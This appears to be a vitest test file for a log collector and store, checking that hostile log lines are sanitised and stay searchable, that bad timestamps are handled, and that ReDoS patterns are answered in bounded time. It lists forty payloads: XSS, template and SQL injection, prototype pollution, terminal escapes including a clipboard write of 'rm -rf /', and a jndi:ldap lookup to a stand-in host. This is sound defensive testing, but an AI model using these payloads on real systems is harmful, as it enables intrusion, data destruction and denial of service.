/** What strangers write and what their clocks say (S1–S4, S31): every line arrives, harmless, and can be found; nothing is in the way of the rest. */
import { describe, expect, it } from 'vitest';
import type { Engine, LogEntry } from '../../../../src-main/core/engine';
import { LogCollector } from '../../../../src-main/core/logs/ingest/collector';
import { Intake } from '../../../../src-main/core/logs/ingest/intake';
import { openLogStore, type LogStore } from '../../../../src-main/core/logs';
import { FakeClock } from '../../../support/clock';
import { codec, CrashingFiles, never, seeded, smallSizes, sourceOf, text } from './support';

const e = '\u001b';
/** Forty lines that mean harm to whoever shows, stores or searches them. */
const payloads: readonly string[] = [
  '<img src=x onerror="window.pwn=1">',
  '<script>window.pwn=1</script>',
  '<svg/onload=window.pwn=1>',
  '"><iframe srcdoc="<script>parent.pwn=1</script>">',
  '<a href="javascript:window.pwn=1">here</a>',
  '<style>*{display:none}</style>',
  '<math><mi//xlink:href="data:x,<script>window.pwn=1</script>">',
  '<base href="https://elsewhere.example/">',
  '<form action="https://elsewhere.example"><input name=q autofocus>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
  "{{constructor.constructor('window.pwn=1')()}}",
  '${window.pwn=1}',
  '<%= process.exit() %>',
  '#{7*7} @(7*7) [[7*7]]',
  '{"__proto__":{"pwn":1},"constructor":{"prototype":{"pwn":1}}}',
  '{"toString":"x","hasOwnProperty":1,"valueOf":null}',
  '__proto__=1 constructor=2 level=error',
  `${e}]8;;file:///etc/passwd${e}\\click${e}]8;;${e}\\`,
  `${e}]52;c;cm0gLXJmIC8=\u0007`,
  `${e}]0;another title\u0007`,
  `${e}[2J${e}[H${e}[?1049h`,
  `${e}P+q544e${e}\\`,
  `${e}]0;never ends`,
  `${e}[31;1mred${e}[0m and ${e}[8mhidden${e}[0m`,
  '\u009b2J\u009d0;c1\u009c',
  'harmless\roverwritten',
  'a\u0008\u0008\u0008b\u0000c\u007f',
  'user\u202egnp.exe\u202c and \u2066isolated\u2069',
  'zero\u200bwidth\u200djoined\ufeff',
  `Z${'\u0301'.repeat(300)}algo`,
  '\ud800 alone \udfff',
  '\ufffd\ufffd\ufffd',
  '=cmd|" /C calc"!A0',
  "'; DROP TABLE lines; --",
  '../../../../etc/passwd %2e%2e%2f \\\\server\\share',
  '%s%s%s%n %x ${jndi:ldap://elsewhere.example/a}',
  '{"level":"fatal","level":"info","msg":"twice"',
  `{"a":${'['.repeat(2000)}`,
  `${'k=v '.repeat(5000)}`,
  '\t\t\t \u00a0\u3000',
];

interface World {
  store: LogStore;
  intake: Intake;
  say(...entries: (Partial<LogEntry> & { text: string })[]): void;
  end(): Promise<void>;
}

/** A collector, its store, and an engine that says what a test says. */
async function world(clock: FakeClock): Promise<World> {
  const files = new CrashingFiles();
  const store = await openLogStore({ files, codec, text, clock, budget: { bytes: 1e9, age: 1e12 }, sizes: smallSizes });
  const intake = new Intake({ clock, state: await store.state(), append: (batch) => store.append(batch) });
  const collector = new LogCollector({ clock, random: seeded(1), intake, linesPerSecond: 0 });
  let hear: (entries: LogEntry[]) => void = () => undefined;
  const engine: Pick<Engine, 'id' | 'logs'> = {
    id: 'fake',
    logs: (_id, _options, onEntries) => {
      hear = onEntries;
      const quiet = (): void => undefined;
      return { ended: new Promise(() => undefined), pause: quiet, resume: quiet, dispose: quiet };
    },
  };
  collector.setEngine(engine as Engine);
  collector.follow([sourceOf()]);
  let nanos = BigInt(clock.now()) * 1_000_000n;
  return {
    store,
    intake,
    say: (...entries) => {
      hear(
        entries.map((entry): LogEntry => {
          nanos += 2_000_000_000n;
          return { stream: 'stdout', stamp: String(nanos), partial: false, ...entry };
        }),
      );
    },
    end: async () => {
      collector.dispose();
      await intake.flush();
      intake.dispose();
      await store.close();
    },
  };
}

describe('hostile lines', () => {
  it('are stored without what a terminal would obey, and each can be found by the words beside it', async () => {
    const clock = new FakeClock();
    const { say, intake, store, end } = await world(clock);
    say(...payloads.map((payload, at) => ({ text: `before${at} ${payload} after${at}` })));
    await clock.advance(10_000);
    await intake.flush();
    const page = await store.page({ scope: {}, query: '', limit: 1000 }, never);
    expect(page.lines).toHaveLength(payloads.length);
    for (const [at, line] of page.lines.entries()) {
      expect(line.text).toContain(`before${at} `);
      const found = await store.page({ scope: {}, query: `before${at}`, limit: 10 }, never);
      expect(found.lines.map(({ id }) => id)).toEqual([line.id]);
      // Only colours are left of all that is not text.
      const colourless = line.text.replaceAll(new RegExp(`${e}\\[[0-9;:]*m`, 'g'), '');
      for (const char of colourless) {
        const code = char.charCodeAt(0);
        const control = (code < 0x20 && char !== '\t' && char !== '\n') || (code >= 0x7f && code <= 0x9f);
        expect(control || /[\u202a-\u202e\u2066-\u2069]/.test(char)).toBe(false);
      }
    }
    // Nothing a line says becomes more than a field of its own.
    expect(({} as Record<string, unknown>)['pwn']).toBeUndefined();
    const facets = await store.facets(
      {
        scope: {},
        query: '',
        from: 0,
        to: clock.now() + 1e9,
        fields: ['__proto__', 'constructor', 'toString', 'level'],
      },
      never,
    );
    expect(facets.map(({ field }) => field)).toEqual(['__proto__', 'constructor', 'toString', 'level']);
    await end();
  });

  it('of ten megabytes are cut with the count of what went, and binary is shown as pictures; lines around them are whole', async () => {
    const clock = new FakeClock();
    const { say, intake, store, end } = await world(clock);
    const piece = 'x'.repeat(16 * 1024);
    say({ text: 'first' });
    const start = BigInt(clock.now()) * 1_000_000n + 60_000_000_000n;
    for (let at = 0; at < 640; at++) say({ text: piece, partial: true, stamp: String(start + BigInt(at)) });
    say({ text: 'tail', stamp: String(start + 700n) });
    const bytes = Array.from({ length: 4096 }, (_, at) => String.fromCharCode((at * 31) % 256)).join('');
    say({ text: bytes.replaceAll('\n', ''), stamp: String(start + 5_000_000_000n) });
    say({ text: 'last', stamp: String(start + 9_000_000_000n) });
    await clock.advance(10_000);
    await intake.flush();
    const { lines } = await store.page({ scope: {}, query: '', limit: 10 }, never);
    expect(lines).toHaveLength(4);
    expect(lines[0]?.text).toBe('first');
    expect(lines[1]?.text).toBe(`${'x'.repeat(65_536)} […${640 * 16 * 1024 + 4 - 65_536} more characters cut]`);
    expect(lines[2]?.text).toContain('\u2400');
    expect(lines[3]?.text).toBe('last');
    await end();
  });
});

describe('clocks that are wrong', () => {
  it('neither hide nor lose a line: before 1970 is 1970, the far future is shown as it is, and now is still found', async () => {
    const clock = new FakeClock();
    const { say, intake, store, end } = await world(clock);
    const now = BigInt(clock.now()) * 1_000_000n;
    const stamps = [
      '0',
      '1',
      'nonsense',
      '-5',
      String(now),
      String(now + 1n),
      '4102444800000000000',
      '9223372036854775807',
    ];
    for (const [at, stamp] of stamps.entries()) say({ text: `line ${at}`, stamp });
    // Back by a day, then on as before.
    const day = 86_400_000_000_000n;
    for (const [at, back] of [day, day - 1_000_000n, 0n].entries())
      say({ text: `jump ${at}`, stamp: String(now + 5_000_000_000n - back) });
    await clock.advance(10_000);
    await intake.flush();
    const { lines } = await store.page({ scope: {}, query: '', limit: 100 }, never);
    const wanted = [...stamps.map((_, at) => `line ${at}`), 'jump 0', 'jump 1', 'jump 2'];
    expect(lines.map((line) => line.text).toSorted()).toEqual(wanted.toSorted());
    // Pages are in order of time, and each line is once in the histogram over all of it.
    const times = lines.map((line) => line.at);
    expect(times).toEqual(times.toSorted((left, right) => left - right));
    expect(times.every((time) => Number.isFinite(time) && time >= 0)).toBe(true);
    const to = Math.ceil(times.at(-1) ?? 0);
    const histogram = await store.histogram({ scope: {}, query: '', from: 0, to, buckets: 100 }, never);
    expect(histogram.total).toBe(wanted.length);
    const recent = { from: clock.now() - 60_000, to: clock.now() + 60_000 };
    const found = await store.page({ scope: {}, query: 'line OR jump', ...recent, limit: 10 }, never);
    expect(found.lines.map((line) => line.text)).toEqual(['line 4', 'line 5', 'jump 2']);
    await end();
  });
});

/** Expressions that make a matcher which goes back over its steps take ages. */
const evil: readonly string[] = [
  '(a+)+$',
  '(a|a)*$',
  '(a|aa)+$',
  '(a*)*$',
  '(a*)+$',
  '(a?){40}a{40}$',
  '^(a+a+)+b',
  '(.*a){12}$',
  '(.*)*x',
  '(.+)+x',
  '([a-zA-Z]+)*$',
  '([a-z]+)+[0-9]',
  '(\\w+\\s?)*$',
  '(\\w*)*!!',
  '\\w*\\w*\\w*\\w*\\w*!!',
  '(x+x+)+y',
  '(a|b|ab)*c',
  '(a|ab|abc|aa)*z',
  '(?:a{1,20}){1,20}b',
  '((a{1,9}){1,9}){1,9}b',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '(a+){10}y',
  '(a+)*(a+)*(a+)*b',
  '.*.*.*.*.*=.*',
  '.*?,.*?,.*?,.*?,x',
  '^(?:.?)+b',
  '(aa|aab?)*c',
  '(?i)(A+)+$',
  '(a|[^b])*b',
  '(([^,]*),?)*;',
];

describe('expressions that mean harm', () => {
  it('are answered or refused over a long line of theirs, all thirty', async () => {
    const clock = new FakeClock();
    const { say, intake, store, end } = await world(clock);
    say({ text: `${'a'.repeat(5000)}!` }, { text: 'aab, and a line that is well' });
    await clock.advance(10_000);
    await intake.flush();
    expect(evil).toHaveLength(30);
    const began = performance.now();
    for (const pattern of evil) {
      const answer = await store
        .page({ scope: {}, query: `/${pattern}/`, limit: 10 }, never)
        .then((page) => page.lines.length)
        .catch((thrown: { problem?: { code: string } }) => thrown.problem?.code);
      expect(answer === 'bad-input' || typeof answer === 'number').toBe(true);
    }
    // Not a speed test: the first of them alone would take longer than the universe is old.
    expect(performance.now() - began).toBeLessThan(60_000);
    await end();
  });
});
